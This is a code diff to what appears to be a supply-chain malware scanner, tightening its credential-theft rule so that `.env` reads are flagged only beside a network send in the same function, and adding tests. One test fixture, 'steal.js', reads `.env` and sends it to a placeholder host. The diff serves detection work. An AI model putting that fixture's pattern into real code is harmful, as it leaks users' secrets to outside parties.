@@ -26,7 +26,8 @@ diligence_finding::declare_rule! {
     /// npm clients and registry-auth helpers read `.npmrc` to authenticate to the registry; SSH tools read keys.
     /// Without a network capability in the package nothing is reported; a mention in docs is never a read. One
     /// store read far from any send (another file, or another function of a bundle: browser automation reading
-    /// Chrome's `Local State` for the last used profile) is low. In a bundle (wrangler's CLI bundles an SSH
+    /// Chrome's `Local State` for the last used profile) is low. A `.env` file name is reported only in a
+    /// function that also sends (Next.js lists `.env`, `.env.production` to load them; its telemetry is elsewhere). In a bundle (wrangler's CLI bundles an SSH
     /// helper and the AWS SDK) stores and exfiltration ingredients corroborate only within one function.
     pub static CREDENTIAL_THEFT = { id: "code/credential-theft", severity: Severity::High };
 }
@@ -81,11 +82,16 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         ))
     });
     out.extend(per_signal(p, Kind::DotenvPath, |f, s| {
+        // Build tools and dev servers load `.env` files and, elsewhere, talk to the network;
+        // only a `.env` name next to a send in one function is reported.
         let loc = locality(p, f, s, SENDS);
-        if loc < Locality::File || !f.has(Kind::FsRead) {
+        if loc < Locality::Function || !f.has(Kind::FsRead) {
             return None;
         }
-        let msg = format!("`{}` files read in a file that sends data out", s.detail);
+        let msg = format!(
+            "`{}` files read in a function that sends data out",
+            s.detail
+        );
         Some(finding(
             &CREDENTIAL_THEFT,
             Severity::Medium,
@@ -243,5 +249,30 @@ mod tests {
             ]
         );
         assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// Next.js's build: the `.env` files to load are listed in one function, telemetry is sent
+    /// from another.
+    #[test]
+    fn negative_dotenv_list_apart_from_the_send() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/build/index.js",
+                "const fs = require('fs'), https = require('https');\nfunction loadEnv(dir) {\n  return ['.env', '.env.production'].map((f) => fs.readFileSync(dir + '/' + f, 'utf8'));\n}\nfunction telemetry(ev) {\n  https.request('https://telemetry.example.com').end(JSON.stringify(ev));\n}\nmodule.exports = { loadEnv, telemetry };\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/credential-theft").is_empty());
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "steal.js",
+                "const fs = require('fs'), https = require('https');\nfunction go() {\n  const e = fs.readFileSync('.env', 'utf8');\n  https.request('https://x.example.com').end(e);\n}\ngo();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/credential-theft"),
+            vec![("steal.js".to_string(), 3)]
+        );
     }
 }
